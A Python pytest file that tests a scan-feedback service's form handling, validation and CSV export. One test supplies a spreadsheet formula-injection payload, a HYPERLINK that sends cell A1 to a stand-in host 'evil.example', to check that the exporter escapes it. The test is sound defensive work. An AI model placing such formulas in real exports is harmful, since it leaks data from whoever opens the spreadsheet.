"""Feedback: a reader's verdict is kept with the scan's hash, and exported."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from corestream.__main__ import app
from pipeline.feedback import FeedbackFolder
from tests.support.results import report
from tests.support.system import System, running_system


@pytest.fixture
async def system(tmp_path: Path, redis_url: str) -> AsyncIterator[System]:
    """An installation."""
    async with running_system(tmp_path, redis_url) as running:
        yield running


async def judged(system: System, submitted: dict[str, Any], scan_id: str | None = None, **sent: Any) -> Any:  # noqa: ANN401 - what a client may send
    """Send feedback as a browser's form does; return status, location and problem."""
    scan_id = scan_id or submitted["scans"][0]["scan_id"]
    token = submitted["status_url"].partition("token=")[2]
    async with system.http.post(
        f"/api/jobs/{submitted['job_id']}/scans/{scan_id}/feedback",
        params={"token": token},
        data=sent,
        headers={"Accept": "text/html"},
        allow_redirects=False,
    ) as answer:
        return answer.status, answer.headers.get("Location"), await answer.text()


async def test_the_last_word_on_a_scan_is_exported_with_its_hash(system: System, tmp_path: Path) -> None:
    """It outlives the scan, so that whoever has the scan elsewhere can look it up."""
    submitted = await system.submit()
    await system.until_idle()
    status = await system.status(submitted)
    assert (await judged(system, submitted, verdict="agree", note=""))[0] == 303
    answered, location, _ = await judged(system, submitted, verdict="disagree", note="left, I'd say")
    assert (answered, location) == (303, f"{status['result_url']}#judge-1")
    job = system.storage.read_job(submitted["job_id"])
    system.storage.delete_job(job.job_id)  # as at the end of its retention time
    exported = CliRunner().invoke(app, ["feedback", "export", "--data", str(tmp_path / "data")])
    [row] = csv.DictReader(io.StringIO(exported.stdout))
    made = report(job.job_id, job.scans[0].scan_id)
    assert (row["verdict"], row["note"]) == ("disagree", "left, I'd say")
    assert row["scan_sha256"] == job.scans[0].sha256
    assert float(row["core_estimate"]) == made.core_estimate.value
    assert (row["side"], row["model_sha256"]) == ("left", made.model.sha256)


async def test_a_note_is_never_a_formula_in_a_spreadsheet(system: System, tmp_path: Path) -> None:
    """Whoever has a link writes notes; whoever runs the installation opens them."""
    note = '=HYPERLINK("http://evil.example?"&A1; "click")'
    submitted = await system.submit()
    await system.until_idle()
    assert (await judged(system, submitted, verdict="unsure", note=note))[0] == 303
    exported = CliRunner().invoke(app, ["feedback", "export", "--data", str(tmp_path / "data")])
    [row] = csv.DictReader(io.StringIO(exported.stdout))
    assert row["note"] == f"'{note}"


async def test_feedback_that_is_none_is_refused_in_words(system: System) -> None:
    """Nothing is kept of it."""
    submitted = await system.submit()
    await system.until_idle()
    for sent in (
        {"verdict": "perhaps"},
        {},
        {"verdict": "agree", "note": "x" * 1001},
        {"verdict": "agree", "x": "y"},
    ):
        status, _, text = await judged(system, submitted, **sent)
        assert status == 422
        assert "Expected verdict (agree, disagree, unsure)" in text
    status, _, text = await judged(system, submitted, scan_id="0" * 32, verdict="agree")
    assert (status, "No result here" in text) == (404, True)
    assert list(FeedbackFolder(system.storage.feedback).all()) == []
